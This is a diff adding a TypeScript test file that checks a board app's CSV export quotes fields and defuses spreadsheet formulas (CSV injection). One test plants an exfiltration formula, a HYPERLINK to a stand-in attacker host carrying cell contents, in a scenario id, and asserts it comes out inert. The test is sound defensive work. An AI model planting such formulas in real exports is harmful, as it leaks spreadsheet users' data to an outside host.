@@ -1,0 +1,62 @@
+import { describe, expect, it } from 'vitest';
+import * as Y from 'yjs';
+import { project } from '../model';
+import { csvText, projectionCsv } from './exchange';
+import { initBoard, readBoard } from './schema';
+
+/** RFC 4180 fields of one CSV record (quoted fields may hold commas and doubled quotes). */
+function fields(line: string): string[] {
+  const out: string[] = [];
+  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
+  for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) {
+    const raw = m[1]!;
+    out.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
+  }
+  return out;
+}
+
+describe('CSV export', () => {
+  it('quotes every text field and makes formulas inert (CSV injection)', () => {
+    expect(csvText('Baseline')).toBe('"Baseline"');
+    expect(csvText('=1+1')).toBe(`"'=1+1"`);
+    for (const lead of ['+', '-', '@', '\t', '\r']) expect(csvText(`${lead}x`)).toMatch(/^"'/);
+    expect(csvText('\n =cmd')).toBe(`"'  =cmd"`);
+    expect(csvText('a "b", c')).toBe('"a ""b"", c"');
+    expect(csvText('2 rows\r\nhere')).toBe('"2 rows  here"');
+  });
+
+  it('a hand-made scenario id and name with a formula, quotes, commas and newlines stay on one row each year, inert', () => {
+    const doc = new Y.Doc();
+    initBoard(doc, { title: 'Injected' });
+    const board = readBoard(doc);
+    const evilId = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+    const evilName = '@SUM(1,2)\n"quoted", with commas\r\n=2+2';
+    board.scenarios[0] = { ...board.scenarios[0]!, id: evilId, name: evilName };
+
+    const csv = projectionCsv(board);
+    const lines = csv.trimEnd().split('\r\n');
+    const years = project(board.scenarios[0].values).years;
+    expect(lines).toHaveLength(1 + years.length);
+    expect(csv.split(/\r\n|\n|\r/).filter(Boolean)).toHaveLength(1 + years.length);
+    expect(fields(lines[0]!)).toEqual([
+      'scenario_id',
+      'scenario',
+      'year',
+      'total_usd',
+      'existing_usd',
+      'services_usd',
+      'products_usd',
+      'freelance_usd',
+    ]);
+    for (const [i, line] of lines.slice(1).entries()) {
+      const row = fields(line);
+      expect(row).toHaveLength(8);
+      expect(row[0]).toBe(`'${evilId}`);
+      expect(row[1]).toBe(`'@SUM(1,2) "quoted", with commas  =2+2`);
+      expect(row[2]).toBe(String(years[i]!.year));
+      expect(row[3]).toBe(String(Math.round(years[i]!.total)));
+      // No field a spreadsheet would evaluate.
+      for (const f of row) expect(f).not.toMatch(/^[=+\-@\t\r]/);
+    }
+  });
+});
